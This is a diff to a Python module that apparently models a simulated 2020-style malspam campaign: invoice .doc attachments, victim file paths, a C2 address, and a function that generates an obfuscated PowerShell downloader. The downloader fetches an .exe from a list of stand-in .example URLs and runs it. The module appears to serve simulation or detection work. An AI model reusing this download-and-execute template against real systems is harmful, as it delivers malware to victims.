@@ -1,8 +1,8 @@
-"""The campaign's facts: its document, its addresses, its script. All reserved names; nothing here can reach anything.
+"""The campaign's facts: document, addresses, script. All reserved names; nothing here can reach anything.
 
-The script has the shape of those of July 2020 (variables with random names, a list of addresses cut at ``*``, a
-loop that takes the first answer that is long enough) and is text only: its addresses are ``.example`` names,
-which never resolve, so it does nothing even where somebody runs it.
+The script has the shape of those of July 2020 (variables with random names, a list of addresses cut at
+``*``, a loop that takes the first answer that is long enough) and is text only: its addresses are
+``.example`` names, which never resolve, so it does nothing even where somebody runs it.
 """
 
 from __future__ import annotations
@@ -43,7 +43,7 @@ C2_PROXIED_443: Final = ("198.51.100.61", 443)
 DOCUMENT: Final = Attachment("請求書_20200722.doc", DOC, 172_544, "minato-day:document:1")
 """What the victim opens; its hashes are in the list."""
 DOCUMENT_UNKNOWN: Final = Attachment("請求書_07222020.doc", DOC, 173_056, "minato-day:document:2")
-"""What the other recipient got: the campaign changed the file from mail to mail, and nobody has reported this one."""
+"""What the other recipient got: the file changed from mail to mail, and nobody has reported this one."""
 
 FIRST_PROGRAM: Final = "C:\\Users\\t.suzuki\\284.exe"
 PROGRAM: Final = "C:\\Users\\t.suzuki\\AppData\\Local\\KBDYAK\\dxdiagn.exe"
@@ -66,10 +66,12 @@ def script(rng: Random) -> str:
     noise = [f"{_variable(rng)}='{_word(rng, 7)}'" for _ in range(6)]
     joined = "*".join(DOWNLOADS)
     return (
-        f"{junk}='{_word(rng, 7)}';{name} = '284';{noise[0]};{path}=$env:userprofile+'\\'+{name}+'.exe';{noise[1]};"
+        f"{junk}='{_word(rng, 7)}';{name} = "
+        f"'284';{noise[0]};{path}=$env:userprofile+'\\'+{name}+'.exe';{noise[1]};"
         f"{client}=new-object net.webclient;{urls}='{joined}'.split('*');{noise[2]};"
         f"foreach({url} in {urls}){{try{{{client}.DownloadFile({url}, {path});{noise[3]};"
-        f"If ((Get-Item {path}).length -ge 23617) {{Invoke-Item {path};{noise[4]};break}}}}catch{{}}}}{noise[5]}"
+        f"If ((Get-Item {path}).length -ge 23617) "
+        f"{{Invoke-Item {path};{noise[4]};break}}}}catch{{}}}}{noise[5]}"
     )
 
 
